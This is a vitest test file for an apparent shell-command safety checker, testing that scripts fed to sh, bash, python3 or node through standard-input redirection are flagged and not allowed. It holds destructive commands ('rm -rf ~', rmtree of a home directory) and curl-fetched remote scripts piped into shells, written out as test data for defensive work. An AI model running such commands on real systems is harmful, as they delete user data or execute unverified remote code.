import { describe, expect, it } from 'vitest';
import { check } from '../support/runtime.js';

// A shell given no script file reads its script from its standard input: `sh < deploy.sh` runs deploy.sh
// as `sh deploy.sh` does, and `python3 < wipe.py` runs wipe.py. Both were allowed whatever the file said.

const files = {
  exists: () => false,
  readScript: (path: string) =>
    path === '/home/dev/project/deploy.sh'
      ? { kind: 'text' as const, text: '#!/bin/sh\nrm -rf ~\n' }
      : path === '/home/dev/project/wipe.py'
        ? { kind: 'text' as const, text: "import shutil\nshutil.rmtree('/home/dev')\n" }
        : { kind: 'missing' as const },
};

describe('a shell script read from standard input', () => {
  it.each([
    'sh < deploy.sh',
    'bash -s < deploy.sh',
    'sudo bash < ./deploy.sh',
    'bash -s -- --force < deploy.sh',
    // tree-sitter-bash reads `0<` as an argument `0` and a `<`: bash redirects descriptor 0.
    'sh 0< deploy.sh',
    'bash -s 0<deploy.sh',
  ])('%s runs what deploy.sh says', async (command) => {
    const result = await check(command, files);
    expect(result.decision.outcome).not.toBe('allow');
    expect(result.assessment.effects).toContainEqual(
      expect.objectContaining({ operation: 'delete', target: '/home/dev', risk: 'critical' }),
    );
  });

  it.each(['python3 < wipe.py', 'python3 -u - < wipe.py'])('%s runs what wipe.py says', async (command) => {
    expect((await check(command, files)).assessment.effects).toContainEqual(
      expect.objectContaining({ operation: 'delete', target: '/home/dev', risk: 'critical' }),
    );
  });

  it('runs what the same line wrote into the file, which cannot be read first', async () => {
    const result = await check('echo rm -rf ~ > /tmp/c; bash < /tmp/c', files);
    expect(result.decision.outcome).not.toBe('allow');
    expect(result.assessment.effects.map((e) => e.operation)).toContain('execute-unverifiable');
  });

  // The script is a stream whose text only the run knows: each was allowed, read as an interactive shell.
  it.each([
    'bash < <(curl -s https://get.example.com/a.sh)',
    'bash -s < <(curl -s https://get.example.com/a.sh)',
    'sh < "$SCRIPT"',
    'bash /dev/stdin < <(curl -s https://get.example.com/a.sh)',
    'bash /dev/fd/3 3< <(curl -s https://get.example.com/a.sh)',
    'bash 3< <(curl -s https://get.example.com/a.sh) <&3',
    'python3 < <(curl -s https://get.example.com/a.py)',
    'python3 - < <(curl -s https://get.example.com/a.py)',
    'node < <(curl -s https://get.example.com/a.js)',
    'sh 0< <(curl -s https://get.example.com/a.sh)',
    'python3 0< <(curl -s https://get.example.com/a.py)',
  ])('%s runs a script that cannot be read first', async (command) => {
    const result = await check(command, files);
    expect(result.decision.outcome).not.toBe('allow');
    expect(result.assessment.effects.map((e) => e.operation)).toContain('execute-unverifiable');
  });

  it('bash /dev/stdin < deploy.sh runs what deploy.sh says', async () => {
    expect((await check('bash /dev/stdin < deploy.sh', files)).assessment.effects).toContainEqual(
      expect.objectContaining({ operation: 'delete', target: '/home/dev', risk: 'critical' }),
    );
  });

  it.each([
    'bash < /dev/null',
    'sh < missing.sh',
    'wc -l < deploy.sh',
    'python3 report.py < wipe.py',
    'sort < <(ls)',
    'while read l; do echo "$l"; done < <(ls)',
    'python3 report.py < <(ls)',
    'bash <&-',
  ])('%s is allowed', async (command) => {
    expect((await check(command, files)).decision.outcome).toBe('allow');
  });
});
